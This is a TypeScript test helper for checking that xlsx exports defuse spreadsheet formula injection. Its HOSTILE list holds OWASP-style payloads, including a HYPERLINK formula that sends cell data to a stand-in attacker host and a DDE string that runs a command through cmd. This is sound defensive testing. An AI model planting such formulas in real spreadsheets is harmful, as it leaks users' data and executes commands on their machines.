import { inflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";

/** Reading an exported xlsx back as a spreadsheet sees it: values, formats, and each cell's quote prefix. */

/** Text a spreadsheet would take for a formula once edited (OWASP CSV injection), with tab and CR. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
];

/** A text as it reads back: XML turns a CR into LF (a CR written is a line feed read). */
export const asRead = (text: string) => text.replace(/\r/g, "\n");
export const PLAIN = ["JJ-021-00045", "爵士白", "a=b", "1+1"];

/** The parts of an xlsx (a zip) by name, read through its central directory. */
export function unzip(buf: Buffer): Map<string, string> {
  const parts = new Map<string, string>();
  let eocd = buf.length - 22;
  while (eocd >= 0 && buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  let at = buf.readUInt32LE(eocd + 16);
  for (let i = buf.readUInt16LE(eocd + 10); i > 0; i--) {
    const method = buf.readUInt16LE(at + 10);
    const size = buf.readUInt32LE(at + 20);
    const nameLength = buf.readUInt16LE(at + 28);
    const skip = nameLength + buf.readUInt16LE(at + 30) + buf.readUInt16LE(at + 32);
    const name = buf.toString("utf8", at + 46, at + 46 + nameLength);
    const local = buf.readUInt32LE(at + 42);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const data = buf.subarray(start, start + size);
    parts.set(name, (method === 8 ? inflateRawSync(data) : data).toString("utf8"));
    at += 46 + skip;
  }
  return parts;
}

export interface ReadCell {
  ref: string;
  value: ExcelJS.CellValue;
  numFmt: string | undefined;
  /** The cell's style carries quotePrefix="1". */
  quotePrefix: boolean;
}

/** Every non-empty cell of the first sheet: its value and format as exceljs reads them, and its quote prefix. */
export async function readBack(buf: Buffer): Promise<ReadCell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const parts = unzip(buf);
  const xfs = [
    ...(parts.get("xl/styles.xml")!.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? "").matchAll(
      /<xf\b[^>]*?(\/>|>.*?<\/xf>)/gs,
    ),
  ].map((m) => /quotePrefix="1"/.test(m[0]));
  const styleOf = new Map(
    [...parts.get("xl/worksheets/sheet1.xml")!.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>/g)].map((m) => [
      m[1]!,
      Number(m[2]!.match(/\bs="(\d+)"/)?.[1] ?? 0),
    ]),
  );
  const cells: ReadCell[] = [];
  wb.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      cells.push({
        ref: cell.address,
        value: cell.value,
        numFmt: cell.numFmt,
        quotePrefix: xfs[styleOf.get(cell.address) ?? 0] ?? false,
      });
    }),
  );
  return cells;
}
